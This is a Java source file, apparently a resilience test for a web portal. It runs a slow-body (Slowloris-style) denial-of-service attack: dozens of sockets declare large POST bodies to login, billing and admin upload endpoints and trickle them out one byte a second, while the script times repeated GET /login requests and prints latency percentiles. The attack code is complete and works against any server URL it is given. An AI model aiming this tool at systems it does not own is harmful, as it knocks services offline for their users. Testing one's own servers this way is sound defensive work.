import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.ScheduledExecutorService;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * Slow-body attack: N clients declare a request body under the portal's limits (a 60 KB
 * sign-in form, a 200 KB JSON call, a 1 MB upload) and send it a byte a second, while one
 * ordinary client asks for GET /login again and again. Prints that client's latencies.
 * <p>
 * Usage: {@code java SlowClients.java http://localhost:8080 [clients=64] [seconds=30] [timeoutSeconds=10]}
 * (run by slow-clients.sh).
 */
public class SlowClients {

	public static void main(String[] args) throws Exception {
		URI base = URI.create(args[0]);
		int clients = (args.length > 1) ? Integer.parseInt(args[1]) : 64;
		Duration attack = Duration.ofSeconds((args.length > 2) ? Long.parseLong(args[2]) : 30);
		Duration timeout = Duration.ofSeconds((args.length > 3) ? Long.parseLong(args[3]) : 10);
		HttpClient client = HttpClient.newBuilder().connectTimeout(timeout).build();
		HttpRequest login = HttpRequest.newBuilder(base.resolve("/login")).timeout(timeout).GET().build();
		for (int i = 0; i < 20; i++) {
			client.send(login, BodyHandlers.discarding());
		}
		ScheduledExecutorService trickle = Executors.newSingleThreadScheduledExecutor();
		AtomicInteger failedSends = new AtomicInteger();
		List<Socket> sockets = new ArrayList<>();
		for (int i = 0; i < clients; i++) {
			Socket socket = new Socket(base.getHost(), base.getPort());
			sockets.add(socket);
			OutputStream out = socket.getOutputStream();
			out.write(start(i, base.getHost()).getBytes(StandardCharsets.US_ASCII));
			out.flush();
			trickle.scheduleAtFixedRate(() -> {
				try {
					out.write('a');
					out.flush();
				}
				catch (IOException ex) {
					failedSends.incrementAndGet();
				}
			}, 1, 1, TimeUnit.SECONDS);
		}
		List<Long> micros = new ArrayList<>();
		int timeouts = 0;
		int errors = 0;
		long deadline = System.nanoTime() + attack.toNanos();
		while (System.nanoTime() < deadline) {
			long begin = System.nanoTime();
			try {
				int status = client.send(login, BodyHandlers.discarding()).statusCode();
				if (status != 200) {
					errors++;
				}
				micros.add(TimeUnit.NANOSECONDS.toMicros(System.nanoTime() - begin));
			}
			catch (java.net.http.HttpTimeoutException ex) {
				timeouts++;
				micros.add(timeout.toNanos() / 1000);
			}
			catch (IOException ex) {
				errors++;
				micros.add(TimeUnit.NANOSECONDS.toMicros(System.nanoTime() - begin));
			}
		}
		trickle.shutdownNow();
		for (Socket socket : sockets) {
			socket.close();
		}
		List<Long> sorted = micros.stream().sorted().toList();
		System.out.printf("GET /login under %d slow clients for %d s: %d requests, p50 %s, p99 %s, max %s,"
				+ " %d timed out (>= %d s, counted as %d ms), %d errors; %d slow clients cut off%n", clients,
				attack.toSeconds(), sorted.size(), ms(sorted, 0.50), ms(sorted, 0.99), ms(sorted, 1.0), timeouts,
				timeout.toSeconds(), timeout.toMillis(), errors, failedSends.get());
	}

	private static String start(int i, String host) {
		return switch (i % 4) {
			case 0, 1 -> head("/login", host, "application/x-www-form-urlencoded", 60_000) + "username=";
			case 2 -> head("/api/v1/billing/units", host, "application/json", 200_000) + "{\"rule\":\"";
			default -> head("/admin/datasets", host, "multipart/form-data; boundary=slowslow", 1_000_000)
					+ "--slowslow\r\nContent-Disposition: form-data; name=\"file\"; filename=\"slow.csv\"\r\n"
					+ "Content-Type: text/csv\r\n\r\n";
		};
	}

	private static String head(String path, String host, String contentType, int length) {
		return "POST " + path + " HTTP/1.1\r\nHost: " + host + "\r\nContent-Type: " + contentType
				+ "\r\nContent-Length: " + length + "\r\n\r\n";
	}

	private static String ms(List<Long> sorted, double share) {
		if (sorted.isEmpty()) {
			return "-";
		}
		return String.format("%.1f ms", sorted.get(Math.max(0, (int) Math.ceil(share * sorted.size()) - 1)) / 1000.0);
	}

}
